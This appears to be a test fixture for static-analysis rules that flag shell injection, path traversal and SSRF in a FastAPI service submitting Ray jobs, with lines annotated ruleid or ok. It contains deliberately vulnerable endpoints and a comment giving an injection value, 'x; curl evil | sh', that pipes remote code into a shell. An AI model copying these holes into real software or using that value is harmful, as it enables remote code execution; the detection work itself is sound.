# An API that starts Ray jobs: a job's entrypoint is a shell command, run by Ray's job supervisor.
import asyncio
import io
import os
import subprocess

import requests
from PIL import Image

from fastapi import FastAPI
from ray.job_submission import JobSubmissionClient

app = FastAPI()
client = JobSubmissionClient("http://127.0.0.1:8265")


@app.post("/jobs")
async def start(model: str, dataset: str):
    # the list is joined into one command line for the supervisor's shell: `dataset` can be "x; curl evil | sh"
    # ruleid: ml-serving.request.shell-injection
    subprocess.run(["ray", "job", "submit", "--address=auto", "--", "python", "train.py", "--data", dataset], check=True)
    command = ["ray", "job", "submit", "--", "python", "eval.py", model]
    # ruleid: ml-serving.request.shell-injection
    proc = await asyncio.create_subprocess_exec(*command)
    # ruleid: ml-serving.request.shell-injection
    job = client.submit_job(entrypoint=f"python train.py --model {model}")
    # a plain argument list runs no shell
    # ok: ml-serving.request.shell-injection
    subprocess.run(["python", "train.py", "--data", dataset], check=True)
    # ok: ml-serving.request.shell-injection
    fixed = client.submit_job(entrypoint="python nightly.py")
    return {"job": job, "pid": proc.pid, "fixed": fixed}


def check_media_path(path: str) -> None:
    """Raises unless the path is inside the media directory."""
    if not os.path.realpath(path).startswith("/srv/media/"):
        raise ValueError("outside the media directory")


@app.get("/media")
async def media(name: str, other: str):
    check_media_path(name)
    # checked by the project's own path check first
    # ok: ml-serving.request.path-traversal
    with open(name, "rb") as fh:
        data = fh.read()
    # ruleid: ml-serving.request.path-traversal
    with open(other, "rb") as fh:
        return data + fh.read()


@app.post("/thumbnail")
async def thumbnail(image_url: str, name: str):
    # what a fetch returns is data, not a path: the fetch itself is the SSRF check's
    # ruleid: ml-serving.request.ssrf
    response = requests.get(image_url, stream=True, timeout=10)
    # ok: ml-serving.request.path-traversal
    image = Image.open(response.raw)
    # ruleid: ml-serving.request.path-traversal
    other = Image.open(name)
    return image.size, other.size


@app.post("/thumbnail-upload")
async def thumbnail_upload(body: str, name: str):
    # bytes decoded from the request and wrapped in memory name no file: not-a-path-value keeps them out
    data = io.BytesIO(body.encode())
    # ok: ml-serving.request.path-traversal
    image = Image.open(data)
    # ruleid: ml-serving.request.path-traversal
    other = Image.open(io.FileIO(name))
    return image.size, other.size
